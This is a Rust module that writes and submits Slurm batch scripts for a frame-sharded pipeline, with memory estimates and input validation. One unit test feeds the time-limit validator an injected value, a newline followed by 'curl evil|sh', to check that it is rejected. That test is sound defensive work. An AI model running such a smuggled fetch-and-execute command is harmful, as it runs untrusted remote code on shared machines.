//! Frame-sharded runs on a Slurm cluster: `pipeline slurm` writes (and optionally submits)
//! two batch scripts. An array job whose task k runs the per-frame stages (silhouettes to
//! reliability) on the k-th contiguous slice of the selected frames, and a job that depends
//! on the whole array (`afterok`) and runs the model, the fit and the exports over every
//! frame from the shared cache (reusing what the shards computed). Shards lock only their
//! own frames ([`crate::cache::Cache::lock_frames`]), so they share one cache on a network
//! filesystem; resubmitting after a failed or cancelled task recomputes only what is
//! missing.

use crate::config::FrameRange;
use crate::error::{Error, Result};
use crate::runner::Job;
use crate::shell::{quote, refuse_control, sbatch_quote};
use std::path::{Path, PathBuf};

/// What `pipeline slurm` was asked for.
#[derive(Debug, Clone)]
pub struct SlurmOptions {
    /// Number of array tasks (at most one per frame).
    pub shards: usize,
    /// Slurm partition (`--partition`); the cluster's default when unset.
    pub partition: Option<String>,
    /// Time limit of each job (`--time`, Slurm's format, e.g. `02:00:00`).
    pub time: String,
    /// CPUs per task (`--cpus-per-task`): the threads each run uses.
    pub cpus: usize,
    /// Memory per task in MB, overriding the estimate.
    pub mem_mb: Option<u64>,
    /// The `pipeline` executable the jobs run (an absolute path every node can reach).
    pub program: PathBuf,
}

/// The batch plan: scripts and where they go.
#[derive(Debug, Clone)]
pub struct Plan {
    /// Frame slice of each array task.
    pub shards: Vec<FrameRange>,
    /// Memory of an array task and of the final job, MB.
    pub shard_mem_mb: u64,
    pub final_mem_mb: u64,
    /// The array job's script and the final job's.
    pub array_script: String,
    pub final_script: String,
    /// Folder the scripts and the jobs' logs go to (`<cache>/slurm`).
    pub dir: PathBuf,
}

/// Memory estimates, MB, from peak resident sizes measured with `/usr/bin/time -v` on the
/// tripod (15 cameras; 64 MB at 256x192, 103 MB at 640x480, 198 MB at 1024x768 for one frame
/// through the reliability on 2 threads; the fit and exports ~250 MB at 640x480): a base plus,
/// per thread, the frame's images at about 16 bytes per pixel and camera (RGB, grey, blurred
/// copies, depth maps), then doubled for headroom.
fn estimates(job: &Job, cpus: usize) -> (u64, u64) {
    let pixels: u64 = job
        .sequence
        .cameras
        .iter()
        .map(|c| c.width as u64 * c.height as u64)
        .sum();
    let per_thread_mb = pixels * 16 / 1_000_000;
    let round = |mb: u64| mb.div_ceil(100) * 100;
    let shard = round(2 * (256 + cpus as u64 * per_thread_mb));
    let last = round(2 * (512 + cpus as u64 * per_thread_mb * 3 / 2));
    (shard, last)
}

/// Splits `frames` (sorted, contiguous or not) into `n` contiguous slices of nearly equal
/// size, as inclusive ranges of frame indices.
pub fn split(frames: &[u32], n: usize) -> Vec<FrameRange> {
    let n = n.clamp(1, frames.len().max(1));
    let mut out = Vec::with_capacity(n);
    let mut start = 0;
    for k in 0..n {
        let len = frames.len() / n + usize::from(k < frames.len() % n);
        if len == 0 {
            continue;
        }
        out.push(FrameRange {
            first: frames[start],
            last: frames[start + len - 1],
        });
        start += len;
    }
    out
}

fn absolute(p: &Path) -> Result<PathBuf> {
    std::path::absolute(p).map_err(|e| Error::io(p, e))
}

/// Whether `t` is one of Slurm's time-limit formats (`--time`).
fn valid_time(t: &str) -> bool {
    if matches!(t, "UNLIMITED" | "INFINITE" | "unlimited" | "infinite") {
        return true;
    }
    let (days, rest) = match t.split_once('-') {
        Some((d, r)) => (Some(d), r),
        None => (None, t),
    };
    let number = |s: &str| !s.is_empty() && s.len() <= 6 && s.chars().all(|c| c.is_ascii_digit());
    if days.is_some_and(|d| !number(d)) {
        return false;
    }
    let parts: Vec<&str> = rest.split(':').collect();
    parts.len() <= 3 && parts.iter().all(|p| number(p))
}

/// The batch plan of `job` (its selected frames) under `opts`.
pub fn plan(job: &Job, opts: &SlurmOptions) -> Result<Plan> {
    if opts.shards == 0 {
        return Err(Error::Usage("--shards must be at least 1".into()));
    }
    if opts.cpus == 0 {
        return Err(Error::Usage("--cpus must be at least 1".into()));
    }
    // Every value that goes into a script or an `#SBATCH` line: control characters are
    // refused (a newline would start a command), the rest is quoted where it is written.
    if let Some(p) = &opts.partition {
        refuse_control("--partition", p)?;
        if p.is_empty()
            || !p
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "_.,-".contains(c))
        {
            return Err(Error::Usage(format!(
                "--partition {p:?}: a partition name (or a comma-separated list) holds letters, \
                 digits, '_', '.' and '-'"
            )));
        }
    }
    refuse_control("--time", &opts.time)?;
    if !valid_time(&opts.time) {
        return Err(Error::Usage(format!(
            "--time {:?} is not a Slurm time limit: write minutes, MM:SS, HH:MM:SS, D-HH, \
             D-HH:MM or D-HH:MM:SS (or UNLIMITED)",
            opts.time
        )));
    }
    let mut frames = job.frames.clone();
    frames.sort_unstable();
    let shards = split(&frames, opts.shards);
    let (est_shard, est_final) = estimates(job, opts.cpus);
    let (shard_mem_mb, final_mem_mb) = match opts.mem_mb {
        Some(m) => (m, m),
        None => (est_shard, est_final),
    };
    let config = absolute(&job.config.path)?;
    let program = absolute(&opts.program)?;
    let dir = absolute(&job.cache.root.join("slurm"))?;
    for (what, p) in [
        ("the pipeline file's path", &config),
        ("the pipeline program's path", &program),
        ("the cache folder's path", &dir),
    ] {
        refuse_control(what, &p.display().to_string())?;
    }
    let all = FrameRange {
        first: frames[0],
        last: frames[frames.len() - 1],
    };
    let header = |name: &str, mem: u64, log: &str| -> String {
        let mut h = format!(
            "#!/bin/bash\n\
             # Written by `pipeline slurm`; edit freely.\n\
             #SBATCH --job-name={name}\n\
             #SBATCH --cpus-per-task={}\n\
             #SBATCH --mem={mem}M\n\
             #SBATCH --time={}\n\
             #SBATCH --output={}\n",
            opts.cpus,
            opts.time,
            // sbatch expands `%` patterns in --output: the folder's own `%` are doubled,
            // the log name's pattern (`%A_%a`) is meant.
            sbatch_quote(&format!(
                "{}/{log}",
                dir.display().to_string().replace('%', "%%")
            ))
        );
        if let Some(p) = &opts.partition {
            h += &format!("#SBATCH --partition={}\n", sbatch_quote(p));
        }
        h
    };
    let ranges: Vec<String> = shards
        .iter()
        .map(|r| format!("{}..{}", r.first, r.last))
        .collect();
    let array_script = format!(
        "{}#SBATCH --array=0-{}\n\
         # Task k runs the per-frame stages (silhouette .. reliability) on the k-th slice.\n\
         set -euo pipefail\n\
         export RAYON_NUM_THREADS=${{SLURM_CPUS_PER_TASK:-{}}}\n\
         RANGES=({})\n\
         exec {} run {} --frames \"${{RANGES[$SLURM_ARRAY_TASK_ID]}}\" --until reliability\n",
        header("hullpose-frames", shard_mem_mb, "frames-%A_%a.out"),
        shards.len() - 1,
        opts.cpus,
        ranges.join(" "),
        quote(&program.display().to_string()),
        quote(&config.display().to_string()),
    );
    let final_script = format!(
        "{}# After every shard: the model, the fit and the exports over all frames (the\n\
         # per-frame stages are reused from the shared cache).\n\
         set -euo pipefail\n\
         export RAYON_NUM_THREADS=${{SLURM_CPUS_PER_TASK:-{}}}\n\
         exec {} run {} --frames {}..{}\n",
        header("hullpose-fit", final_mem_mb, "fit-%j.out") + "#SBATCH --kill-on-invalid-dep=yes\n",
        opts.cpus,
        quote(&program.display().to_string()),
        quote(&config.display().to_string()),
        all.first,
        all.last,
    );
    Ok(Plan {
        shards,
        shard_mem_mb,
        final_mem_mb,
        array_script,
        final_script,
        dir,
    })
}

/// Writes the plan's scripts (`frames.sbatch`, `fit.sbatch`) into its folder; returns
/// their paths.
pub fn write(plan: &Plan) -> Result<(PathBuf, PathBuf)> {
    let array = plan.dir.join("frames.sbatch");
    let last = plan.dir.join("fit.sbatch");
    crate::fsutil::write_atomic(&array, plan.array_script.as_bytes())?;
    crate::fsutil::write_atomic(&last, plan.final_script.as_bytes())?;
    Ok((array, last))
}

/// Runs `sbatch --parsable ARGS SCRIPT`; returns the job id.
fn sbatch(args: &[String], script: &Path) -> Result<String> {
    let out = std::process::Command::new("sbatch")
        .arg("--parsable")
        .args(args)
        .arg(script)
        .output()
        .map_err(|e| {
            Error::Usage(format!(
                "cannot run sbatch ({e}); is this a Slurm submit host? Without --submit the \
                 scripts are only written"
            ))
        })?;
    if !out.status.success() {
        return Err(Error::Usage(format!(
            "sbatch {} failed: {}",
            script.display(),
            String::from_utf8_lossy(&out.stderr).trim()
        )));
    }
    let text = String::from_utf8_lossy(&out.stdout);
    // `--parsable` prints `jobid[;cluster]`.
    let id = text.trim().split(';').next().unwrap_or("").to_string();
    if id.is_empty() || !id.chars().all(|c| c.is_ascii_digit()) {
        return Err(Error::Usage(format!(
            "sbatch printed '{}', not a job id",
            text.trim()
        )));
    }
    Ok(id)
}

/// Submits the written scripts: the array, then the final job depending on it. Returns
/// (array job id, final job id).
pub fn submit(array: &Path, last: &Path) -> Result<(String, String)> {
    let array_id = sbatch(&[], array)?;
    let final_id = sbatch(&[format!("--dependency=afterok:{array_id}")], last)?;
    Ok((array_id, final_id))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slices_cover_the_frames_in_order() {
        let frames: Vec<u32> = (0..7).collect();
        let s = split(&frames, 3);
        let as_pairs: Vec<(u32, u32)> = s.iter().map(|r| (r.first, r.last)).collect();
        assert_eq!(as_pairs, [(0, 2), (3, 4), (5, 6)]);
        assert_eq!(split(&frames, 20).len(), 7);
        assert_eq!(split(&frames, 1).len(), 1);
        assert!(valid_time("04:00:00") && valid_time("2-12") && valid_time("90"));
        assert!(!valid_time("01:00:00\ncurl evil|sh") && !valid_time("") && !valid_time("1:2:3:4"));
    }
}
